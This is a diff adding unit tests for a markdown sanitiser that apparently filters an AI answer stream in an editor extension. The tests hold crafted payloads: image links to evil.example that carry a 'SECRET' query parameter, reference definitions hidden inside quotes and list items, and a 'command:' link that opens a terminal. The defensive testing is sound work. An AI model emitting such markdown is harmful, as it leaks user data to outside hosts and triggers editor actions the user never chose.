@@ -77,3 +77,29 @@ describe('answer stream', () => {
     assert.equal(sanitizeLine('[docs](vscode:extension/foo)'), 'docs');
   });
 });
+
+describe('R08: CommonMark constructs that used to slip through', () => {
+  const shown = (text: string) => run([text]).shown;
+  test('an image whose alt text holds brackets', () => {
+    assert.ok(!/(^|[^\\])!\[a \[b\] c\]\(https/.test(shown('See ![a [b] c](https://evil.example/x.png?d=SECRET)\n')));
+  });
+  test('an image whose alt text goes on on the next line', () => {
+    assert.ok(shown('![alt\nmore](https://evil.example/y.png)\n').startsWith('!\\[alt'));
+  });
+  test('a reference definition inside a block quote or a list item, and a shortcut reference image', () => {
+    const out = shown('> [r]: https://evil.example/q.png\n- [s]: https://evil.example/s.png\n![r] and ![s][s]\n');
+    assert.ok(out.includes('> \\[r\\]:') && out.includes('- \\[s\\]:'), out);
+    assert.ok(!/(^|[^\\])!\[r\]/.test(out) && !/(^|[^\\])!\[s\]/.test(out), out);
+  });
+  test('a command: link with nested brackets in its label', () => {
+    assert.ok(!shown('[a [b] c](command:workbench.action.terminal.new)\n').includes('](command:'));
+  });
+  test('a fence inside a list item ends with the item', () => {
+    const out = shown('- item\n  ```\n  code\n  ```x\n\n![x](https://evil.example/z.png)\n');
+    assert.ok(!out.includes('](https://evil.example/z.png)'), out);
+  });
+  test('code blocks at the top level are still left alone', () => {
+    const text = '```md\n![kept](https://example.com/a.png)\n```\n';
+    assert.equal(shown(text), text);
+  });
+});
